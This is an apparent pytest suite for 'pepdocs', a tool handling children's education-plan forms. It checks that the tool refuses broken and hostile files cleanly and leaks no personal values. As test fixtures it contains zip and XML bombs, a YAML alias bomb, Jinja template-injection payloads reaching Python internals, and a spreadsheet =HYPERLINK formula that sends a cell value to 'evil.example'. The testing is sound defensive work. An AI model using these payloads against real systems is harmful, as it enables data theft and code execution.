"""Every command that reads a file, on every corpus item: one line naming the file and the
problem, a non-zero exit, no traceback, no partial output, done within seconds; valid but
unusual input processed; no PEP value in any message.

Commands run in-process through ``pepdocs.cli.main`` (the console script's entry point), so
"no traceback" means exactly: nothing but ``SystemExit`` leaves ``main``. One test runs the
real ``pepdocs`` process to check the same from outside.
"""

from __future__ import annotations

import io
import json
import logging
import os
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docx
import pytest

from pepdocs.cli import main

from . import corpus

#: a hang guard, not a benchmark: generous so a loaded CI machine does not flake

#: the Word form the Word corpus is read against (explicit, so no form detection is timed)
WORD_FORM = ["-a", "eastborough", "--form", "school_age"]


@dataclass
class Run:
    code: int
    out: str
    err: str
    seconds: float

    @property
    def err_lines(self) -> list[str]:
        return [line for line in self.err.splitlines() if line.strip()]


@pytest.fixture
def run_cli(capsys: pytest.CaptureFixture[str]) -> Callable[..., Run]:
    def run(*args: str | os.PathLike[str]) -> Run:
        capsys.readouterr()
        started = time.monotonic()
        with pytest.raises(SystemExit) as stopped:
            main([os.fspath(arg) for arg in args])
        seconds = time.monotonic() - started
        captured = capsys.readouterr()
        code = stopped.value.code
        return Run(code if isinstance(code, int) else 1, captured.out, captured.err, seconds)

    return run


def _assert_refused(run: Run, path: Path, problem: str, out_dir: Path) -> None:
    """The contract for a refused input, checked in full."""
    assert run.code != 0
    assert "Traceback" not in run.err + run.out
    assert run.err_lines == [run.err_lines[0]], run.err  # exactly one line on stderr
    line = run.err_lines[0]
    assert str(path) in line
    assert problem in line, line
    assert not out_dir.exists() or not list(out_dir.iterdir())


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


# -- pepdocs extract / translate on Word input ----------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("item", corpus.REFUSED_DOCX, ids=lambda item: item.name)
def test_extract_refuses_a_broken_or_hostile_word_file_in_one_line(
    run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
) -> None:
    path = _write(tmp_path, f"{item.name}.docx", item.build())
    out = tmp_path / "out"
    run = run_cli("extract", path, *WORD_FORM, "-o", out / "pep.json", "--report", out / "r.json")
    _assert_refused(run, path, item.problem, out)


@pytest.mark.slow
@pytest.mark.parametrize("item", corpus.REFUSED_XLSX, ids=lambda item: item.name)
def test_extract_refuses_a_broken_or_hostile_workbook_in_one_line(
    run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
) -> None:
    path = _write(tmp_path, f"{item.name}.xlsx", item.build())
    out = tmp_path / "out"
    run = run_cli("extract", path, "-a", "southvale", "-o", out / "pep.json")
    _assert_refused(run, path, item.problem, out)


@pytest.mark.slow
@pytest.mark.parametrize("item", corpus.REFUSED_PDF, ids=lambda item: item.name)
def test_extract_refuses_a_broken_pdf_in_one_line(
    run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
) -> None:
    path = _write(tmp_path, f"{item.name}.pdf", item.build())
    out = tmp_path / "out"
    run = run_cli("extract", path, "-a", "ridgeford", "-o", out / "pep.json")
    _assert_refused(run, path, item.problem, out)


@pytest.mark.slow
@pytest.mark.parametrize("item", corpus.LOOPING_PDF, ids=lambda item: item.name)
def test_extract_ends_a_pdf_built_to_loop_within_seconds(
    run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
) -> None:
    path = _write(tmp_path, f"{item.name}.pdf", item.build())
    out = tmp_path / "out"
    run = run_cli("extract", path, "-a", "ridgeford", "-o", out / "pep.json")
    assert "Traceback" not in run.err
    assert len(run.err_lines) == 1 and str(path) in run.err_lines[0]
    if run.code != 0:  # refused: nothing written; read (nothing found): the PEP written
        assert not out.exists() or not list(out.iterdir())


#: by content these are not Word files at all, so detection treats them as what they are: a
#: PDF is compared with the PDF forms, plain text is no form
_DETECTION_PROBLEMS = {"pdf-named-docx": "", "text-named-docx": "not a"}


@pytest.mark.slow
@pytest.mark.parametrize("item", corpus.REFUSED_DOCX, ids=lambda item: item.name)
def test_extract_without_an_authority_refuses_in_one_line_too(
    run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
) -> None:
    path = _write(tmp_path, f"{item.name}.docx", item.build())
    out = tmp_path / "out"
    run = run_cli("extract", path, "-o", out / "pep.json")
    _assert_refused(run, path, _DETECTION_PROBLEMS.get(item.name, item.problem), out)


@pytest.mark.slow
@pytest.mark.parametrize(
    "item",
    [item for item in corpus.REFUSED_DOCX if item.name in {"zip-bomb", "xml-bomb", "truncated"}],
    ids=lambda item: item.name,
)
def test_translate_refuses_in_one_line_and_writes_nothing(
    run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
) -> None:
    path = _write(tmp_path, f"{item.name}.docx", item.build())
    out = tmp_path / "out"
    run = run_cli(
        "translate", path, "--from", "eastborough", "--form", "school_age",
        "--to", "westmere", "-o", out / "moved.docx",
    )  # fmt: skip
    _assert_refused(run, path, item.problem, out)


@pytest.mark.slow
def test_a_twenty_thousand_row_table_is_extracted_within_seconds(
    run_cli: Callable[..., Run], tmp_path: Path
) -> None:
    path = _write(tmp_path, "big.docx", corpus.big_table())
    out = tmp_path / "out"
    run = run_cli("extract", path, *WORD_FORM, "-o", out / "pep.json")
    assert run.code == 0, run.err
    assert "Traceback" not in run.err
    assert json.loads((out / "pep.json").read_text(encoding="utf-8"))["meta"]


def test_zip_slip_names_are_ignored_and_the_form_extracted(
    run_cli: Callable[..., Run], tmp_path: Path
) -> None:
    path = _write(tmp_path, "slip.docx", corpus.zip_slip())
    run = run_cli("extract", path, *WORD_FORM, "-o", tmp_path / "out" / "pep.json")
    assert run.code == 0, run.err
    assert not (tmp_path.parent / "evil.txt").exists()
    assert not Path("/abs/evil.txt").exists()


def test_a_missing_input_file_is_one_line(run_cli: Callable[..., Run], tmp_path: Path) -> None:
    path = tmp_path / "nope.docx"
    run = run_cli("extract", path, *WORD_FORM)
    _assert_refused(run, path, "no such file", tmp_path / "out")


def test_a_named_pipe_is_refused_without_blocking(
    run_cli: Callable[..., Run], tmp_path: Path
) -> None:
    path = tmp_path / "form.docx"
    os.mkfifo(path)
    run = run_cli("extract", path, *WORD_FORM)
    _assert_refused(run, path, "not a regular file", tmp_path / "out")


def test_an_existing_output_is_kept_and_nothing_else_written(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "pep.json").write_text("keep me", encoding="utf-8")
    run = run_cli("extract", filled_form, *WORD_FORM, "-o", out / "pep.json")
    assert run.code == 1
    assert "--force" in run.err
    assert (out / "pep.json").read_text(encoding="utf-8") == "keep me"
    assert sorted(path.name for path in out.iterdir()) == ["pep.json"]


# -- control characters: refused in a document's XML, cleaned on the way into one ----------


def test_control_characters_in_pep_values_are_cleaned_when_filling(
    run_cli: Callable[..., Run], tmp_path: Path
) -> None:
    pep = corpus.distinctive_pep()
    pep["views"]["child"] = "likes\x0b reading\x00 and\x1f maths"
    source = tmp_path / "pep.json"
    source.write_text(json.dumps(pep), encoding="utf-8")
    run = run_cli("fill", source, "-a", "eastborough", "-o", tmp_path / "out.docx")
    assert run.code == 0, run.err
    text = "\n".join(
        paragraph.text
        for paragraph in docx.Document(io.BytesIO((tmp_path / "out.docx").read_bytes())).paragraphs
    )
    assert "\x0b" not in text and "\x00" not in text


# -- commands that read PEP JSON --------------------------------------------------------------


@dataclass(frozen=True)
class JsonItem:
    name: str
    content: bytes
    problem: str


JSON_CORPUS = [
    JsonItem("empty", b"", ""),
    JsonItem("invalid", b'{"meta": ', "not valid JSON"),
    JsonItem("word-named-json", corpus.small_form(), "not UTF-8"),
    JsonItem("windows-1252", '{"meta": {"pep_id": "Zo\u00eb"}}'.encode("cp1252"), "not UTF-8"),
]
DEEP_JSON = JsonItem("deep", b"[" * 100_000 + b"]" * 100_000, "nested too deeply")

#: (command line before the file, whether the problem goes to stdout as a report line)
JSON_COMMANDS: dict[str, tuple[list[str], bool]] = {
    "validate": (["validate"], True),
    "check": (["check"], True),
    "fill": (["fill", "-a", "eastborough"], False),
}


def _json_params() -> list[Any]:
    params: list[Any] = []
    for command in JSON_COMMANDS:
        params += [pytest.param(command, item, id=f"{command}-{item.name}") for item in JSON_CORPUS]
        params.append(pytest.param(command, DEEP_JSON, id=f"{command}-deep"))
    return params


@pytest.mark.parametrize(("command", "item"), _json_params())
def test_a_command_reading_pep_json_refuses_a_broken_file_in_one_line(
    run_cli: Callable[..., Run], tmp_path: Path, command: str, item: JsonItem
) -> None:
    path = _write(tmp_path, f"{item.name}.json", item.content)
    words, report_on_stdout = JSON_COMMANDS[command]
    out = tmp_path / "out"
    extra = ["-o", str(out / "filled.docx")] if command == "fill" else []
    run = run_cli(*words, path, *extra)
    assert run.code != 0
    assert "Traceback" not in run.out + run.err
    assert not out.exists() or not list(out.iterdir())
    lines = [line for line in (run.out if report_on_stdout else run.err).splitlines() if line]
    naming = [line for line in lines if str(path) in line]
    # validate/check print a report: the file's line is among them; fill has only the error
    assert len(naming) == 1, lines
    assert item.problem in naming[0]
    if not report_on_stdout:
        assert run.err_lines == naming


@pytest.mark.slow
def test_validate_refuses_a_named_pipe_without_blocking(tmp_path: Path) -> None:
    path = tmp_path / "pep.json"
    os.mkfifo(path)
    try:
        result = subprocess.run(
            [sys.executable, "-m", "pepdocs", "validate", str(path)],
            capture_output=True,
            text=True,
            timeout=8,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("pepdocs validate blocked on a named pipe")
    assert result.returncode == 1
    assert "not a regular file" in result.stdout + result.stderr


# -- the real process ----------------------------------------------------------------------------


@pytest.mark.slow
def test_the_installed_command_prints_one_line_and_no_traceback(tmp_path: Path) -> None:
    path = _write(tmp_path, "bomb.docx", corpus.xml_bomb())
    result = subprocess.run(
        [sys.executable, "-m", "pepdocs", "extract", str(path), *WORD_FORM],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines() == [
        f"error: {path}: part word/document.xml declares a DTD or entities: refused"
    ]
    assert result.stdout == ""


# -- no PEP values in messages or logs -------------------------------------------------------


@pytest.fixture
def filled_form(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The eastborough school-age form filled from the distinctive PEP."""
    folder = tmp_path_factory.mktemp("filled")
    source = folder / "pep.json"
    source.write_text(json.dumps(corpus.distinctive_pep()), encoding="utf-8")
    target = folder / "form.docx"
    with pytest.raises(SystemExit) as stopped:
        main(["fill", str(source), "-a", "eastborough", "-o", str(target)])
    assert stopped.value.code == 0
    return target


def _leaks(text: str) -> list[str]:
    return [value for value in corpus.DISTINCTIVE_VALUES if value.lower() in text.lower()]


def test_extract_says_nothing_of_the_values_it_read(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    run = run_cli(
        "extract", filled_form, *WORD_FORM,
        "-o", tmp_path / "pep.json", "--report", tmp_path / "report.json",
    )  # fmt: skip
    assert run.code == 0, run.err
    assert _leaks(run.err) == []
    assert _leaks(caplog.text) == []
    # the values did come through (so the check above is not vacuous)
    assert "Zephyrine" in (tmp_path / "pep.json").read_text(encoding="utf-8")


def test_validate_and_check_say_where_a_value_is_wrong_but_not_what_it_is(
    run_cli: Callable[..., Run], tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    pep = corpus.distinctive_pep()
    pep["child"]["upn"] = "QUILLFEATHER9"
    pep["child"]["date_of_birth"] = "Zephyrine's birthday"
    pep["care"]["carer"]["email"] = "bartholomew-at-fennimore"
    pep["care"]["carer"]["phone"] = "Fennimore 0163"
    path = tmp_path / "pep.json"
    path.write_text(json.dumps(pep), encoding="utf-8")
    for words in (["validate"], ["check"]):
        run = run_cli(*words, path)
        assert run.code == 1
        assert "child.upn" in run.out or "child.date_of_birth" in run.out
        assert _leaks(run.out + run.err) == []
    assert _leaks(caplog.text) == []


def test_a_refused_form_says_nothing_of_its_content(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
) -> None:
    members = corpus._members(filled_form.read_bytes())
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    path = _write(tmp_path, "macro.docx", corpus._zip(members))
    run = run_cli("extract", path, *WORD_FORM)
    assert run.code == 1
    assert _leaks(run.err) == []


# -- mapping files and templates --------------------------------------------------------------

_NORTHSHIRE = Path(__file__).resolve().parents[2] / "mappings" / "northshire-school-age.yaml"


def _mapping_with_template(folder: Path, template: str) -> Path:
    """A copy of the northshire (docxtpl) mapping pointing at ``template`` in ``folder``."""
    lines = _NORTHSHIRE.read_text(encoding="utf-8").splitlines()
    text = "\n".join(
        f"template: {template}" if line.startswith("template:") else line for line in lines
    )
    path = folder / "my-form.yaml"
    path.write_text(text + "\n", encoding="utf-8")
    return path


def _pep_file(folder: Path) -> Path:
    path = folder / "pep.json"
    path.write_text(json.dumps(corpus.distinctive_pep()), encoding="utf-8")
    return path


def _jinja_template(folder: Path, name: str, text: str) -> Path:
    document = docx.Document()
    document.add_paragraph(text)
    path = folder / name
    document.save(str(path))
    return path


@pytest.mark.slow
@pytest.mark.parametrize(
    "source",
    ["{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__ }}"],
)
def test_fill_refuses_a_template_reaching_for_python_internals(
    run_cli: Callable[..., Run], tmp_path: Path, source: str
) -> None:
    template = _jinja_template(tmp_path, "hostile.docx", f"Name: {{{{ f.x }}}} {source}")
    mapping = _mapping_with_template(tmp_path, template.name)
    out = tmp_path / "out"
    run = run_cli("fill", _pep_file(tmp_path), "-a", mapping, "-o", out / "filled.docx")
    _assert_refused(run, template, "template does what the sandbox forbids", out)


def _utf16_template(folder: Path) -> Path:
    """A Jinja template whose document part is UTF-16 (legal XML; Word never writes it)."""
    template = _jinja_template(folder, "utf16.docx", "Name: {{ f.x }}")
    members = corpus._members(template.read_bytes())
    xml = members["word/document.xml"].decode("utf-8")
    members["word/document.xml"] = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode(
        "utf-16"
    )
    template.write_bytes(corpus._zip(members))
    return template


@pytest.mark.slow
def test_fill_refuses_a_template_whose_xml_is_not_utf8(
    run_cli: Callable[..., Run], tmp_path: Path
) -> None:
    template = _utf16_template(tmp_path)
    mapping = _mapping_with_template(tmp_path, template.name)
    out = tmp_path / "out"
    run = run_cli("fill", _pep_file(tmp_path), "-a", mapping, "-o", out / "filled.docx")
    _assert_refused(run, template, "part word/document.xml is not UTF-8 text", out)


@pytest.mark.slow
def test_extract_refuses_a_template_whose_xml_is_not_utf8(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
) -> None:
    template = _utf16_template(tmp_path)
    mapping = _mapping_with_template(tmp_path, template.name)
    out = tmp_path / "out"
    run = run_cli("extract", filled_form, "-a", mapping, "-o", out / "pep.json")
    _assert_refused(run, template, "part word/document.xml is not UTF-8 text", out)


@pytest.mark.slow
def test_a_mapping_whose_template_is_missing_is_one_line(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
) -> None:
    mapping = _mapping_with_template(tmp_path, "nowhere.docx")
    out = tmp_path / "out"
    for words in (
        ["fill", _pep_file(tmp_path), "-a", mapping, "-o", out / "filled.docx"],
        ["extract", filled_form, "-a", mapping, "-o", out / "pep.json"],
    ):
        run = run_cli(*words)
        _assert_refused(run, mapping, "template not found", out)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("authority: x\nfields: [ {path: a\n", "invalid YAML"),
        ("authority: x\nauthority: y\n", "invalid YAML"),
        ("\tauthority: x\n", "invalid YAML"),
        ("- just\n- a list\n", "top level"),
        ("", ""),
    ],
    ids=["unclosed", "duplicate-key", "tab", "a-list", "empty"],
)
def test_an_invalid_mapping_file_is_one_line_with_its_line(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path, text: str, problem: str
) -> None:
    mapping = tmp_path / "broken.yaml"
    mapping.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    run = run_cli("extract", filled_form, "-a", mapping, "-o", out / "pep.json")
    _assert_refused(run, mapping, problem, out)


@pytest.mark.slow
def test_a_yaml_alias_bomb_in_a_mapping_is_refused_within_seconds(tmp_path: Path) -> None:
    items = ['&a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    items += [f"&a{n} [" + ",".join([f"*a{n - 1}"] * 9) + "]" for n in range(1, 9)]
    mapping = tmp_path / "bomb.yaml"
    mapping.write_text(
        "authority: x\nname: y\nform: school_age\nversion: '1'\nkind: docx\n"
        "template: form.docx\nfingerprint: [" + ", ".join(items) + "]\n"
        "fields:\n  - path: child.first_name\n    at: {label: L}\n",
        encoding="utf-8",
    )
    form = _write(tmp_path, "form.docx", corpus.small_form())
    try:
        result = subprocess.run(
            [sys.executable, "-m", "pepdocs", "extract", str(form), "-a", str(mapping)],
            capture_output=True,
            text=True,
            timeout=10,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("a YAML alias bomb hung the mapping loader")
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines() == [
        f"error: {mapping}:7: anchors and aliases (&/*) are not allowed in mapping files; "
        "write the repeated part out in full"
    ]


# -- pepdocs batch: rosters ----------------------------------------------------------------------

_SAMPLE_ROSTER = Path(__file__).resolve().parents[2] / "samples" / "roster.csv"


def _roster_text() -> str:
    """The first two children of the sample roster, with names Windows-1252 can hold and
    that are not ASCII (so a wrong decoding shows)."""
    lines = _SAMPLE_ROSTER.read_text(encoding="utf-8").splitlines()[:3]
    text = "\n".join(lines) + "\n"
    text = text.replace("Mikołaj", "Zoë").replace("Łucja", "Renée")
    return text.encode("cp1252", errors="replace").decode("cp1252")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("encoding", "encode"),
    [
        ("windows-1252", lambda text: text.encode("cp1252")),
        ("utf-8-bom", lambda text: b"\xef\xbb\xbf" + text.encode("utf-8")),
    ],
)
def test_batch_processes_a_roster_in_windows_1252_or_with_a_bom(
    run_cli: Callable[..., Run], tmp_path: Path, encoding: str, encode: Callable[[str], bytes]
) -> None:
    roster = _write(tmp_path, f"roster-{encoding}.csv", encode(_roster_text()))
    out = tmp_path / "out"
    run = run_cli("batch", roster, "--out", out)
    assert run.code == 0, run.err
    assert "Traceback" not in run.err
    forms = sorted(out.glob("*.docx"))
    assert len(forms) == 2
    first_names = {_first_name_in(form) for form in forms}
    assert "Zoë" in first_names


def _first_name_in(form: Path) -> str:
    from pepdocs import api

    return str(api.extract(form).pep["child"].get("first_name"))


ROSTER_CORPUS = [
    ("empty.csv", corpus.empty_file, "is empty"),
    ("word-named.csv", corpus.small_form, "is a Word document, not a text file"),
    ("undecodable.csv", lambda: b"LA Child ID,Forename\n1,caf\x81\x8d\n", "not UTF-8 or Windows"),
    ("macro.xlsx", corpus.xlsm_named_xlsx, "macro"),
    ("xml-bomb.xlsx", corpus.workbook_xml_bomb, "DTD or entities"),
    ("cell-bomb.xlsx", corpus.workbook_cell_bomb, "over the 16 MB limit"),
    ("truncated.xlsx", corpus.truncated_workbook, "damaged or cut short"),
    ("encrypted.xlsx", corpus.ole2_encrypted, "password-protected"),
]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "build", "problem"), ROSTER_CORPUS, ids=[item[0] for item in ROSTER_CORPUS]
)
def test_batch_refuses_a_broken_roster_in_one_line_and_makes_nothing(
    run_cli: Callable[..., Run],
    tmp_path: Path,
    name: str,
    build: Callable[[], bytes],
    problem: str,
) -> None:
    roster = _write(tmp_path, name, build())
    out = tmp_path / "out"
    run = run_cli("batch", roster, "--out", out)
    _assert_refused(run, roster, problem, out)


@pytest.mark.slow
def test_batch_refuses_a_named_pipe_roster_without_blocking(tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    os.mkfifo(roster)
    try:
        result = subprocess.run(
            [sys.executable, "-m", "pepdocs", "batch", str(roster), "--out", str(tmp_path / "o")],
            capture_output=True,
            text=True,
            timeout=10,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("pepdocs batch blocked on a named pipe")
    assert result.returncode == 1
    assert "not a regular file" in result.stderr


# -- pepdocs convert: folders of legacy forms -----------------------------------------------------

_CONVERT_BROKEN = [
    item
    for item in corpus.REFUSED_DOCX
    if item.name
    in {"empty", "truncated", "zip-bomb", "xml-bomb", "docm-named-docx", "malformed-xml"}
]


def _convert_folder(folder: Path, good: Path | None) -> Path:
    source = folder / "legacy"
    source.mkdir()
    for item in _CONVERT_BROKEN:
        _write(source, f"{item.name}.docx", item.build())
    if good is not None:
        (source / "good.docx").write_bytes(good.read_bytes())
    return source


@pytest.mark.slow
def test_convert_lists_every_broken_file_in_one_line_and_converts_the_rest(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
) -> None:
    source = _convert_folder(tmp_path, filled_form)
    out = tmp_path / "out"
    run = run_cli("convert", source, "--out", out, "--format", "csv")
    assert "Traceback" not in run.err
    errors = (out / "errors.csv").read_text(encoding="utf-8-sig").splitlines()[1:]
    assert sorted(line.split(",", 1)[0] for line in errors) == sorted(
        f"{item.name}.docx" for item in _CONVERT_BROKEN
    )
    for item in _CONVERT_BROKEN:
        problem_lines = [line for line in run.err_lines if f"{item.name}.docx" in line]
        assert len(problem_lines) == 1 and item.problem in problem_lines[0], run.err
    assert (out / "peps" / "good.json").exists()
    assert sorted(path.name for path in (out / "peps").iterdir()) == ["good.json"]


@pytest.mark.slow
def test_convert_redact_leaves_no_personal_value_in_any_output(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
) -> None:
    source = tmp_path / "legacy"
    source.mkdir()
    (source / "good.docx").write_bytes(filled_form.read_bytes())
    out = tmp_path / "out"
    run = run_cli("convert", source, "--out", out, "--format", "csv", "--redact")
    assert run.code == 0, run.err
    written = "\n".join(
        path.read_text(encoding="utf-8-sig") for path in sorted(out.rglob("*")) if path.is_file()
    )
    assert "example.org" in written  # the contact details were there, pseudonymised
    assert _leaks(written) == []
    assert _leaks(run.err) == []


@pytest.mark.slow
def test_convert_of_only_broken_files_exits_non_zero(
    run_cli: Callable[..., Run], tmp_path: Path
) -> None:
    source = _convert_folder(tmp_path, None)
    out = tmp_path / "out"
    run = run_cli("convert", source, "--out", out)
    assert "Traceback" not in run.err
    assert run.code == 1
    # every file was still tried and the report still written
    errors = (out / "errors.csv").read_text(encoding="utf-8-sig").splitlines()[1:]
    assert len(errors) == len(_CONVERT_BROKEN)


# -- pepdocs bundle: attachments -----------------------------------------------------------------

_BUNDLE_REFUSED_PDF = [
    item
    for item in corpus.REFUSED_PDF + corpus.LOOPING_PDF
    if item.name
    in {"pdf-empty", "pdf-wrong-password", "pdf-truncated", "pdf-page-tree-loop",
        "pdf-field-parent-loop"}
]  # fmt: skip
_BUNDLE_PROBLEMS = {"pdf-page-tree-loop": "not a readable PDF", "pdf-field-parent-loop": ""}


@pytest.mark.slow
@pytest.mark.parametrize("item", _BUNDLE_REFUSED_PDF, ids=lambda item: item.name)
def test_bundle_refuses_a_broken_pdf_attachment_in_one_line(
    run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
) -> None:
    pep = _write(tmp_path, "pep.pdf", corpus.pdf_form())
    attachment = _write(tmp_path, f"{item.name}.pdf", item.build())
    out = tmp_path / "out"
    run = run_cli("bundle", pep, attachment, "-o", out / "bundle.pdf")
    _assert_refused(run, attachment, _BUNDLE_PROBLEMS.get(item.name, item.problem), out)


#: a PDF under a .docx name is bundled as the PDF it is; text is no document of any kind
_BUNDLE_DOCX = [item for item in corpus.REFUSED_DOCX if item.name != "pdf-named-docx"]
_BUNDLE_DOCX_PROBLEMS = {"text-named-docx": "is not a PDF, Word or Excel document"}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("item", "suffix"),
    [(item, "docx") for item in _BUNDLE_DOCX]
    + [(item, "xlsx") for item in corpus.REFUSED_XLSX if item.name != "xlsx-word-named-xlsx"],
    ids=lambda value: value.name if isinstance(value, corpus.Item) else value,
)
def test_bundle_refuses_a_hostile_office_attachment_before_libreoffice(
    run_cli: Callable[..., Run],
    tmp_path: Path,
    item: corpus.Item,
    suffix: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import pepdocs.bundle

    def no_libreoffice(*args: object, **kwargs: object) -> None:
        raise AssertionError("a refused attachment reached LibreOffice")

    monkeypatch.setattr(pepdocs.bundle, "convert", no_libreoffice)
    pep = _write(tmp_path, "pep.pdf", corpus.pdf_form())
    attachment = _write(tmp_path, f"{item.name}.{suffix}", item.build())
    out = tmp_path / "out"
    run = run_cli("bundle", pep, attachment, "-o", out / "bundle.pdf")
    _assert_refused(run, attachment, _BUNDLE_DOCX_PROBLEMS.get(item.name, item.problem), out)


# -- formula injection: values written into spreadsheets ----------------------------------------

_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.slow
def test_a_formula_typed_in_a_pep_is_text_in_a_filled_workbook(
    run_cli: Callable[..., Run], tmp_path: Path
) -> None:
    import openpyxl

    pep = corpus.distinctive_pep()
    pep["meta"]["authority"] = "southvale"
    pep["views"]["child"] = _FORMULA
    source = tmp_path / "pep.json"
    source.write_text(json.dumps(pep), encoding="utf-8")
    target = tmp_path / "filled.xlsx"
    run = run_cli("fill", source, "-a", "southvale", "-o", target)
    assert run.code == 0, run.err
    book = openpyxl.load_workbook(target)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    holding = [
        cell for cell in cells if isinstance(cell.value, str) and "evil.example" in cell.value
    ]
    assert holding, "the view was written somewhere"
    assert all(cell.data_type == "s" for cell in holding)


@pytest.mark.slow
def test_a_formula_typed_in_a_form_is_neutralised_in_convert_tables(
    run_cli: Callable[..., Run], tmp_path: Path
) -> None:
    pep = corpus.distinctive_pep()
    pep["views"]["child"] = _FORMULA
    source = tmp_path / "pep.json"
    source.write_text(json.dumps(pep), encoding="utf-8")
    legacy = tmp_path / "legacy"
    legacy.mkdir()
    assert run_cli("fill", source, "-a", "eastborough", "-o", legacy / "form.docx").code == 0
    out = tmp_path / "out"
    run = run_cli("convert", legacy, "--out", out, "--format", "csv")
    assert run.code == 0, run.err
    table = (out / "peps.csv").read_text(encoding="utf-8-sig")
    assert "evil.example" in table
    assert ",=HYPERLINK" not in table and ',"=HYPERLINK' not in table
    assert "'=HYPERLINK" in table


# -- the whole corpus, memory ---------------------------------------------------------------------

_MEMORY_BOUND_MB = 1024

_RUN_ALL = """
import sys, time
from pepdocs.cli import main
worst = 0.0
for path, authority in zip(sys.argv[1::2], sys.argv[2::2]):
    started = time.monotonic()
    try:
        main(["extract", path, "-a", authority, "--form", "school_age"])
    except SystemExit:
        pass
    worst = max(worst, time.monotonic() - started)
# VmHWM, not ru_maxrss: Linux carries the parent's high-water mark into a child at exec
peak = next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM:"))
print(int(peak) // 1024, worst)
"""


@pytest.mark.slow
def test_the_whole_corpus_through_extract_stays_within_memory_and_time(tmp_path: Path) -> None:
    """Every corpus file through ``pepdocs extract`` in one process: its peak memory (the
    interpreter and every library included) stays far below what a bomb would take."""
    arguments: list[str] = []
    for items, suffix, authority in (
        (corpus.REFUSED_DOCX, "docx", "eastborough"),
        (corpus.REFUSED_XLSX, "xlsx", "southvale"),
        (corpus.REFUSED_PDF + corpus.LOOPING_PDF, "pdf", "ridgeford"),
    ):
        for item in items:
            arguments += [str(_write(tmp_path, f"{item.name}.{suffix}", item.build())), authority]
    arguments += [str(_write(tmp_path, "big.docx", corpus.big_table())), "eastborough"]
    result = subprocess.run(
        [sys.executable, "-c", _RUN_ALL, *arguments],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=tmp_path,
    )
    assert "Traceback" not in result.stderr
    peak_mb = result.stdout.split()[-2]
    assert int(peak_mb) < _MEMORY_BOUND_MB, peak_mb


def test_extract_redact_leaves_no_personal_value_in_the_pep_or_the_report(
    run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
) -> None:
    out = tmp_path / "out"
    run = run_cli(
        "extract", filled_form, *WORD_FORM, "--redact",
        "-o", out / "pep.json", "--report", out / "report.json",
    )  # fmt: skip
    assert run.code == 0, run.err
    written = (out / "pep.json").read_text(encoding="utf-8") + (out / "report.json").read_text(
        encoding="utf-8"
    )
    assert "example.org" in written
    assert _leaks(written) == []
